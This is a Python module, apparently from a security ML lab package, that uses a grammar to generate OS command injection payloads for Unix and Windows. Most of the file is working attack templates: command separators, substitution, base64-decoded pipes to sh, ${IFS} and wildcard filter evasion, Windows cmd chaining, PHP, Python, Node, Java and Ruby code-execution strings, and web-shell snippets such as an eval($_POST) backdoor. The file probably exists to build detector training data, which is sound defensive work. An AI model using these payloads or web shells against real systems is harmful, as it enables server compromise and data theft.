"""Operating-system command injection (CWE-78) for Unix shells and Windows, plain and with shell disguises."""

import base64
import re
from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS, mixed_case

_RULES: Final = rules(
    r"""
start
    «before»«joined»
    «before»«joined»
    «before»«joined»
    «before»«joined»
    «before»«joined»
    «before»«joined»
    «before»«joined»
    «before»«windows»
    «before»«windows»
    «bare»
    «code»
before:
    «empty» «empty» «n» «word» «label» «ip» 127.0.0.1 localhost «label».«tld» «label».jpg «label»@«domain»
    -«lower:1» "«label»" '«label»'
joined
    ;«o»«unix»«after»
    ;«o»«unix»«after»
    ;«o»«unix»«after»
    |«o»«unix»«after»
    |«o»«unix»«after»
    ||«o»«unix»«after»
    &«o»«unix»«after»
    &&«o»«unix»«after»
    «o»&&«o»«unix»
    «o»|«o»«unix»
    `«unix»`
    $(«unix»)
    $(«unix»)
    «nl»«unix»
    «cr»«nl»«unix»«nl»
    ';«o»«unix»«o»;'
    ";«o»«unix»«o»;"
    '|«o»«unix»«o»#
    "&&«o»«unix»&&"
    ')«o»;«unix»#
    ';$(«unix»);'
    "`«unix»`"
    \;«unix»
    ;;«unix»;;
    %0a«unix»%0a
    |(«unix»)
    ;{«o»«unix»;}
    <(«unix»)
    &«unix»&
    ;«unix»;«unix»
    |«unix»|«plain_command»
    ;if«space»[«space»«n»«space»-eq«space»«n»«space»];then«space»«unix»;fi
    ;for«space»i«space»in«space»$(seq«space»«int:1-9»);do«space»«unix»;done
    ;eval«space»"«unix»"
    ;sh«space»-c«space»'«unix»'
    ;bash<<<"«unix»"
    ;echo«space»«b64»|base64«space»-d|sh
    ;echo${IFS}«b64»|base64${IFS}-d|bash
    $({«plain_command»,})
    ;exec«space»«unix»
    ;(«unix»)&
    ;nohup«space»«unix»«space»&
    $(if«space»[«space»$(«plain_command»|cut«space»-c«int:1-9»)«space»=«space»«lower:1»«space»];then«space»sleep«»
    «space»«int:2-9»;fi)
o
    «empty»
    «empty»
    «space»
    «space»
    «tab»
    ${IFS}
after
    «empty»
    «empty»
    «empty»
    «space»#
    ;
    «space»|
    «space»&
    «space»2>&1
    «space»>/dev/null
    «space»> /tmp/«lower:5»
    «space»>> /var/www/«lower:4».txt
    «space»&& echo «alnum:6»
    «space»;echo «lower:4»
    ;#
    |«plain_command»
    %00
    '
    "
    «nl»
    «space»||
windows
    &«o»«windows_command»
    &&«o»«windows_command»
    |«o»«windows_command»
    ||«o»«windows_command»
    %0d%0a«windows_command»
    "&«windows_command»&"
    «nl»«windows_command»
    |«windows_command»#
    ^&«windows_command»
    &«o»cmd«space»/c«space»"«windows_command»"
    & «windows_command» & «windows_command»
    ;«windows_command»
bare
    cat «unix_file»
    $(«unix»)
    `«unix»`
    /bin/bash -c "«unix»"
    sh -c '«unix»'
    {cat,«unix_file»}
    {«plain_command»,-a}
    cat<«unix_file»
    ;«plain_command»;«plain_command»;
code
    system('«plain_command»')
    ;system('«unix»');
    ';system("«plain_command»");//
    ${@system('«plain_command»')}
    {${exec('«plain_command»')}}
    ";phpinfo();//
    ;passthru("«unix»");
    <?php«space»system("«plain_command»");«space»?>
    <?=`«plain_command»`?>
    <?php«space»eval($_POST['«lower:3»']);?>
    `echo«space»«alnum:6»`
    __import__('os').system('«plain_command»')
    __import__("os").popen("«unix»").read()
    exec("import os;os.system('«plain_command»')")
    eval(compile('import«space»os','','exec'))
    require('child_process').exec('«plain_command»')
    require("child_process").execSync("«unix»")
    process.mainModule.require('child_process').spawnSync('«plain_command»')
    Runtime.getRuntime().exec("«plain_command»")
    new«space»ProcessBuilder("«plain_command»").start()
    #{`«plain_command»`}
    |«plain_command»
    assert(base64_decode('«alnum:16»'))
    create_function('','«plain_command»')
    print(`«plain_command»`)
    shell_exec('«unix»')
    popen('«plain_command»','r')
    open("|«plain_command»").read
    %x(«plain_command»)
    io.popen("«plain_command»")
    os.execute("«unix»")
    Kernel.exec("«plain_command»")
    <%eval«space»request("«lower:4»")%>
    <!--#exec«space»cmd="«plain_command»"-->
    <%«space»Runtime.getRuntime().exec(request.getParameter("«lower:3»"));«space»%>
    preg_replace('/.*/e','«plain_command»','')
    call_user_func('system','«plain_command»')
"""
)
_WORD: Final = re.compile(
    r"\b(cat|id|ls|whoami|uname|wget|curl|bash|sleep|ping|nc|python3?|etc|passwd|shadow|echo|sh)\b"
)


def _unix(rng: Random) -> str:
    text = _GRAMMAR.generate(rng, "unix_command")
    choice = rng.random()
    if choice < 0.1:
        return text.replace(" ", rng.choice(["${IFS}", "$IFS$9", "$IFS", "%09", "<", "\t", "+", "${IFS%??}"]))
    if choice < 0.2:
        return _WORD.sub(lambda found: _broken(found[0], rng), text, count=2)
    if choice < 0.24:
        return text.replace("/", rng.choice(["${HOME:0:1}", "${PATH:0:1}", "//", "/./"]))
    if choice < 0.27:
        return text.replace("passwd", rng.choice(["p?sswd", "pass*", "p[a-z]sswd", "pa\\sswd", "passw''d"]))
    if choice < 0.29:
        return "{" + text.replace(" ", ",") + "}"
    if choice < 0.31:
        return rng.choice(["$(rev<<<'{}')", "$(echo {}|rev)", "`echo {}|rev`"]).format(text[::-1])
    if choice < 0.33:
        return "$(printf '" + "".join(f"\\{ord(c):o}" for c in text[:24]) + "')"
    if choice < 0.34:
        return "$(echo -e '" + "".join(f"\\x{ord(c):02x}" for c in text[:20]) + "')"
    if choice < 0.36:
        variable = rng.choice("abcxyz")
        return f"{variable}={text.split()[0]};${variable} {' '.join(text.split()[1:])}".strip()
    return (
        f"/???/{rng.choice(['c?t', '??t', 'b??h', 'l?'])} {text.partition(' ')[2]}".strip() if choice < 0.38 else text
    )


def _broken(word: str, rng: Random) -> str:
    at = rng.randrange(1, len(word)) if len(word) > 1 else 0
    return word[:at] + rng.choice(["''", '""', "\\", "$@", "$u", "``", "$()", "${x}", "'", "$1"]) + word[at:]


def _b64(rng: Random) -> str:
    return base64.b64encode(_GRAMMAR.generate(rng, "unix_command").encode()).decode()


_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES, "unix": _unix, "b64": _b64})


def payload(rng: Random) -> str:
    """One command injection payload."""
    text = _GRAMMAR.generate(rng)
    while text.isalnum():
        text = _GRAMMAR.generate(rng)  # `date` or `last` alone is a word, not an attack
    return mixed_case(text, rng) if rng.random() < 0.02 else text
